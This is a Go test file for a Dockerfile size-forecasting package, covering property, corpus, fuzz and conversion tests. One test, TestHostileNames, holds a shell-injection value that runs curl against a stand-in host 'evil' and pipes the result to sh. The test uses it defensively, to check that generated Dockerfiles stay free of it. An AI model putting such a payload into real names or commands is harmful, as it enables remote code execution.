package forecast

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	gocmp "github.com/google/go-cmp/cmp"
	"github.com/rogpeppe/go-internal/txtar"
	"pgregory.net/rapid"

	"whittle.dev/whittle"
	"whittle.dev/whittle/internal/dockerfile"
	"whittle.dev/whittle/internal/imagetest"
	"whittle.dev/whittle/internal/resolve"
	"whittle.dev/whittle/internal/restage"
)

// TestForecastFiles: whatever lies in an image, what a strategy is predicted to
// have is what a walk over the files that it would have adds up to.
func TestForecastFiles(t *testing.T) {
	const source = "FROM python:3.13-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\nCOPY . .\nCMD [\"python\", \"main.py\"]\n"
	const site = "usr/local/lib/python3.13/site-packages/"
	rapid.Check(t, func(rt *rapid.T) {
		image := []measuredFile{{"usr/lib/libc.so", 0, rapid.Int64Range(0, 1e9).Draw(rt, "base")}, {"app/main.py", 4, rapid.Int64Range(0, 1e6).Draw(rt, "app")}}
		clean := restage.Cleanup{Bytecode: rapid.Bool().Draw(rt, "bytecode"), Tests: rapid.Bool().Draw(rt, "tests")}
		if rapid.Bool().Draw(rt, "keep") {
			clean.KeepTests = []string{"a"}
		}
		want := image[0].bytes + image[1].bytes
		for _, name := range []string{"a", "b", "cc"} {
			lines := int64(0)
			add := func(p string) {
				n := rapid.Int64Range(0, 1e6).Draw(rt, p)
				image = append(image, measuredFile{site + p, 3, n})
				pyc := strings.HasSuffix(p, ".pyc")
				if pyc {
					lines += int64(len(p) + len(",,\n"))
				}
				test := strings.Contains(p, "/tests/") && !(len(clean.KeepTests) > 0 && name == "a")
				if !(pyc && clean.Bytecode) && !(test && clean.Tests) {
					want += n
				}
			}
			for i := range rapid.IntRange(0, 6).Draw(rt, "files of "+name) {
				dir := rapid.SampledFrom([]string{"", "sub/", "tests/", "sub/tests/", "testsuite/", "tests/__pycache__/"}).Draw(rt, "dir")
				ext := rapid.SampledFrom([]string{"py", "so", "pyc", "txt"}).Draw(rt, "ext")
				add(fmt.Sprintf("%s/%sf%d.%s", name, dir, i, ext))
			}
			add(name + "-1.dist-info/METADATA")
			want += 500 // what the RECORD names and the image does not have
			if clean.Bytecode {
				want -= lines
			}
		}
		var text strings.Builder
		for _, f := range image {
			fmt.Fprintf(&text, "%d %s %d\n", f.layer, f.path, f.bytes)
		}
		measured, content := imageOf(t, text.String())
		p := projectOf(t, source, fstest.MapFS{"requirements.txt": {Data: []byte("a==1\nb==1\ncc==1\n")}}, measured, content)
		p.Clean = clean
		out, err := Strategies(p)
		if err != nil {
			rt.Fatal(err)
		}
		for _, f := range out.Forecasts {
			checkForecast(t, &f)
			if f.Strategy == "single-stage" && f.Predicted != want {
				rt.Errorf("predicted %d, the files are %d: %+v", f.Predicted, want, f.Parts)
			}
		}
	})
}

// carried are the instructions of a final stage that every strategy on the
// same base has to have, in their order.
func carried(f *dockerfile.File) (out []string) {
	for i := range f.Stages[len(f.Stages)-1].Instructions {
		in := &f.Stages[len(f.Stages)-1].Instructions[i]
		if slices.Contains([]string{"ENV", "USER", "EXPOSE", "HEALTHCHECK", "CMD", "ENTRYPOINT", "WORKDIR", "LABEL", "VOLUME", "STOPSIGNAL"}, in.Keyword) {
			out = append(out, in.Text())
		}
	}
	return out
}

// checkCarried: what the original's final stage says stands in the generated one byte for
// byte, in its order.
func checkCarried(t *testing.T, source string, f *whittle.Forecast) {
	t.Helper()
	if f.Dockerfile == "" || f.Strategy != "single-stage" && f.Strategy != "two-stage" {
		return
	}
	before, err := dockerfile.Parse("Dockerfile", []byte(source))
	if err != nil {
		t.Fatal(err)
	}
	after, err := dockerfile.Parse("Dockerfile", []byte(f.Dockerfile))
	if err != nil {
		t.Fatalf("%s does not parse: %v\n%s", f.Strategy, err, f.Dockerfile)
	}
	now := carried(after)
	for _, want := range carried(before) {
		i := slices.Index(now, want)
		if i < 0 {
			t.Errorf("%s lacks, or has at another place:\n%s\nin:\n%s", f.Strategy, want, f.Dockerfile)
			return
		}
		now = now[i+1:]
	}
}

// anyImage is an image in which every instruction has a layer and one
// distribution is installed.
func anyImage(t testing.TB) (string, imagetest.Root) {
	const site = "usr/local/lib/python3.13/site-packages/"
	text := "0 usr/lib/libc.so 1000\n1 " + site + "a/__init__.py 10\n1 " + site + "a-1.dist-info/METADATA 10\n"
	_, content := imageOf(t, text)
	return text, content
}

// forecastAny forecasts for a Dockerfile of which nothing is known.
func forecastAny(t *testing.T, source string) {
	f, err := dockerfile.Parse("Dockerfile", []byte(source))
	if err != nil || len(f.Stages[len(f.Stages)-1].Instructions) > 200 {
		return
	}
	makes := 0
	for _, in := range f.Stages[len(f.Stages)-1].Instructions {
		if slices.Contains([]string{"RUN", "COPY", "ADD", "WORKDIR"}, in.Keyword) {
			makes++
		}
	}
	if makes == 0 {
		return
	}
	text, content := anyImage(t)
	image, _ := imageOf(t, text)
	p := projectOf(t, source, fstest.MapFS{"requirements.txt": {Data: []byte("a==1\n")}}, image, content)
	p.Clean = restage.Cleanup{Bytecode: true, Tests: true}
	p.Distroless = &DistrolessBase{Suite: "trixie", Python: "3.13", Packages: []string{"libc6"}, High: 10}
	out, err := Strategies(p)
	if err != nil {
		t.Fatalf("%v\n%s", err, source)
	}
	for _, fc := range out.Forecasts {
		checkForecast(t, &fc)
		checkCarried(t, source, &fc)
	}
}

// TestForecastCorpus: every Dockerfile of the rooms' corpora either gives
// Dockerfiles that parse and keep what they must, or a note.
func TestForecastCorpus(t *testing.T) {
	seen := 0
	for _, pattern := range []string{"testdata/strategy/*.txtar", "../dockerfile/testdata/corpus/*.txtar", "../dockerfile/testdata/ops/*.txtar", "../lab/testdata/health/*.txtar", "../rule/testdata/*.txtar"} {
		files, err := filepath.Glob(pattern)
		if err != nil {
			t.Fatal(err)
		}
		for _, file := range files {
			archive, err := txtar.ParseFile(file)
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range archive.Files {
				if strings.Contains(string(f.Data), "FROM ") {
					seen++
					forecastAny(t, string(f.Data))
				}
			}
		}
	}
	for _, name := range []string{"", ".alpine", ".optimized", ".single", ".wheel"} {
		source, err := os.ReadFile("../../examples/inventory/Dockerfile" + name)
		if err != nil {
			t.Fatal(err)
		}
		seen++
		forecastAny(t, string(source))
	}
	if seen < 20 {
		t.Errorf("only %d Dockerfiles", seen)
	}
	t.Logf("%d Dockerfiles", seen)
}

// TestHostileNames: what an image, an index or a project's file calls
// something does not get into a shell.
func TestHostileNames(t *testing.T) {
	const evil = `x";curl${IFS}evil|sh;"`
	archive, err := txtar.ParseFile("testdata/strategy/two-stage.txtar")
	if err != nil {
		t.Fatal(err)
	}
	tree, image := fstest.MapFS{}, ""
	for _, f := range archive.Files {
		switch text := strings.ReplaceAll(string(f.Data), "reports = ", `'`+evil+`' = `); {
		case f.Name == "image":
			image = text
		case !strings.HasPrefix(f.Name, "want/"):
			tree[f.Name] = &fstest.MapFile{Data: []byte(text)}
		}
	}
	measured, content := imageOf(t, image)
	p := projectOf(t, string(tree["Dockerfile"].Data), tree, measured, content)
	p.Extras = map[string][]Weight{evil: {{Name: "z", Bytes: 1, Low: 1, High: 1}}}
	p.Distroless = &DistrolessBase{Suite: "trixie", Python: "3.13", Packages: []string{"libc6", evil}}
	for _, keep := range []string{"fine", evil, "a'b"} {
		p.Clean = restage.Cleanup{Tests: true, KeepTests: []string{keep}}
		out, err := Strategies(p)
		if err != nil {
			t.Fatal(err)
		}
		given := 0
		for _, f := range out.Forecasts {
			if f.Dockerfile != "" {
				given++
			}
			if strings.Contains(f.Dockerfile, "evil") || strings.Contains(f.Dockerfile, "a'b") {
				t.Errorf("%s:\n%s", f.Strategy, f.Dockerfile)
			}
			if strings.HasPrefix(f.Strategy, "split-x") && f.Dockerfile != "" {
				t.Error("a Dockerfile for an extra that cannot be named")
			}
		}
		if (given > 0) != (keep == "fine") {
			t.Errorf("KeepTests %q: %d Dockerfiles", keep, given)
		}
	}
}

// TestForecastKnowingLittle: without distributions, records and declarations
// there are sizes and notes, and no Dockerfile.
func TestForecastKnowingLittle(t *testing.T) {
	const source = "FROM python:3.13-slim\nRUN pip install poetry\nCOPY . .\nRUN poetry install --no-root\nCMD [\"flask\"]\n"
	p := projectOf(t, source, fstest.MapFS{"x": {Data: []byte("x")}}, []measuredFile{{"usr/lib/libc.so", 0, 100}, {"usr/local/x", 1, 50}}, imagetest.Root{})
	p.Graph, p.Declared, p.Root, p.Context = nil, nil, nil, nil
	p.Distroless = &DistrolessBase{Suite: "trixie", Python: "3.13", Packages: []string{"libc6"}}
	out, err := Strategies(p)
	if err != nil {
		t.Fatal(err)
	}
	if len(out.Forecasts) != 2 || len(out.Notes) != 2 {
		t.Errorf("%d forecasts, notes %q; want alpine, distroless, and two that make no difference", len(out.Forecasts), out.Notes)
	}
	for _, f := range out.Forecasts {
		checkForecast(t, &f)
		if f.Dockerfile != "" || !slices.ContainsFunc(f.Notes, func(n string) bool { return strings.HasPrefix(n, "no Dockerfile") }) {
			t.Errorf("%s: notes %q, Dockerfile:\n%s", f.Strategy, f.Notes, f.Dockerfile)
		}
	}
}

func FuzzForecast(f *testing.F) {
	files, err := filepath.Glob("testdata/strategy/*.txtar")
	if err != nil {
		f.Fatal(err)
	}
	for _, file := range files {
		archive, err := txtar.ParseFile(file)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(string(archive.Files[0].Data))
	}
	f.Add("FROM python:3.13-slim\nRUN python -m venv\nRUN useradd --uid\nRUN apt-get install\nCMD [\"\"]\n")
	f.Fuzz(func(t *testing.T, source string) { forecastAny(t, source) })
}

func TestAlpineCommand(t *testing.T) {
	for line, want := range map[string]string{
		"useradd --create-home --uid 1000 app":    "adduser -D -u 1000 app",
		"useradd -m -u=1000 -s /bin/bash app":     "adduser -D -u 1000 -s /bin/sh app",
		"useradd --system --no-create-home web":   "addgroup -S web && adduser -D -S -H -G web web",
		"useradd -r -g staff -d /srv web":         "adduser -D -S -G staff -h /srv -H web",
		"groupadd --system --gid 10 web":          "addgroup -S -g 10 web",
		"mkdir -p /data":                          "",
		"useradd --password x web":                "error",
		"useradd -u":                              "error",
		"groupadd --non-unique web":               "error",
		"dpkg-reconfigure tzdata":                 "error",
		"useradd one two":                         "error",
		"useradd --create-home --uid 1 -l -U app": "adduser -D -u 1 app",
	} {
		got, err := alpineCommand(strings.Fields(line))
		if err != nil {
			got = "error"
		}
		if got != want {
			t.Errorf("%s: %q, want %q (%v)", line, got, want, err)
		}
	}
}

// testIndex has the members of wheels by their names.
type testIndex map[string][]whittle.WheelMember

func (testIndex) Files(context.Context, string) ([]whittle.IndexFile, error) {
	return nil, whittle.ErrNotFound
}

func (testIndex) Metadata(context.Context, whittle.IndexFile) ([]byte, error) {
	return nil, whittle.ErrNotFound
}

func (x testIndex) Members(_ context.Context, f whittle.IndexFile) ([]whittle.WheelMember, error) {
	return x[f.Name], nil
}

func TestWeights(t *testing.T) {
	res := &resolve.Solution{Choices: []resolve.Choice{
		{Name: "a", Version: "1", Wheel: &whittle.IndexFile{Name: "a-1-py3-none-any.whl"}},
		{Name: "b", Version: "2", Wheel: &whittle.IndexFile{Name: "b-2-cp313-cp313-musllinux_1_2_x86_64.whl"}},
		{Name: "c", Version: "3", Source: &whittle.IndexFile{Name: "c-3.tar.gz", Size: 100}},
		{Name: "d", Version: "4"},
	}}
	in := &resolve.Installation{Parts: []resolve.InstalledPart{
		{Name: "a", Bytes: 150, Low: 140, High: 160, Bytecode: 50, Source: "a wheel"},
		{Name: "b", Bytes: 1000, Low: 1000, High: 1000, Source: "a wheel"},
		{Name: "c", Bytes: 300, Low: 50, High: 1000, Source: "a source"},
		{Name: "d", Bytes: 10, Low: 5, High: 20, Source: "another"},
	}}
	want := []Weight{
		{Name: "a", Version: "1", Low: 70, Bytes: 70, High: 70, Bytecode: 40, Source: "a wheel", Pure: true, Cleaned: true},
		{Name: "b", Version: "2", Low: 1000, Bytes: 1000, High: 1000, Source: "a wheel", Cleaned: true},
		{Name: "c", Version: "3", Low: 50, Bytes: 300, High: 1000, Source: "a source", SourceOnly: true, Cleaned: true},
		{Name: "d", Version: "4", Low: 5, Bytes: 10, High: 20, Source: "another", SourceOnly: true, NoSource: true, Cleaned: true},
	}
	idx := testIndex{"a-1-py3-none-any.whl": {{Path: "a/x.py", Size: 40}, {Path: "a/tests/t.py", Size: 10}, {Path: "a/tests/data", Size: 20}}}
	got, err := CleanWeights(t.Context(), idx, res, in, restage.Cleanup{Tests: true})
	if err != nil {
		t.Fatal(err)
	}
	if diff := gocmp.Diff(want, got); diff != "" {
		t.Fatalf("(-want +got):\n%s", diff)
	}
	p := projectOf(t, "FROM python:3.13-slim\nRUN pip install a b c d\n", fstest.MapFS{}, []measuredFile{
		{"usr/local/lib/python3.13/site-packages/a-1.dist-info/METADATA", 1, 77}, {"usr/local/lib/python3.13/site-packages/a/x.py", 1, 23}}, func() imagetest.Root {
		_, content := imageOf(t, "1 usr/local/lib/python3.13/site-packages/a-1.dist-info/METADATA 77\n1 usr/local/lib/python3.13/site-packages/a/x.py 23\n")
		return content
	}())
	p.Alpine = &AlpineBase{Low: 1, Bytes: 2, High: 3, Source: "measured", Weights: got}
	out, err := Strategies(p)
	if err != nil {
		t.Fatal(err)
	}
	f := out.Forecasts[len(out.Forecasts)-1]
	checkForecast(t, &f)
	// The base, a as it was measured, b to d, and the environment's own files.
	if wantBytes := int64(2 + 600 + 1000 + 300 + 10 + 14400); f.Predicted != wantBytes {
		t.Errorf("predicted %d, want %d: %+v", f.Predicted, wantBytes, f.Parts)
	}
	if len(f.Skipped) != 2 || f.Dockerfile != "" {
		t.Errorf("blocked %q, Dockerfile %q", f.Skipped, f.Dockerfile)
	}
}
